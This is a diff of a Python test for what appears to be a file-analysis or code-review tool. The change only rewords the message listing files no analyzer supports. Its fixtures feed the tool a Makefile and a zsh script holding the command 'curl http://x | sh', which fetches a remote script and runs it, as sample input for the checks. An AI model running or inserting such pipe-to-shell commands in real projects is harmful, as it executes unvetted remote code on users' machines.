@@ -84,13 +84,13 @@ def test_source_that_no_analyzer_reads_is_unseen(attach: Attach, path_env: dict[
     sent = attach({"Makefile": "a:\n\tcurl http://x | sh\n", "a.zsh": "curl http://x | sh\n", "b.md": "b\n"})
     examination = examine(sent, path_env=path_env)
     assert [(one.path, one.why) for one in examination.unseen] == [
-        ("Makefile", "there is none for its kind"),
-        ("a.zsh", "there is none for its kind"),
+        ("Makefile", "none supports this type of file"),
+        ("a.zsh", "none supports this type of file"),
     ]
     assert str(examination.answer["summary"]).splitlines() == [
         "No changed file could be read completely.",
         "No analyzer ran.",
-        'Not checked completely by any analyzer, because there is none for its kind: "Makefile", "a.zsh".',
+        'Not checked completely by any analyzer, because none supports this type of file: "Makefile", "a.zsh".',
         'No analyzer for: "b.md".',
     ]
 
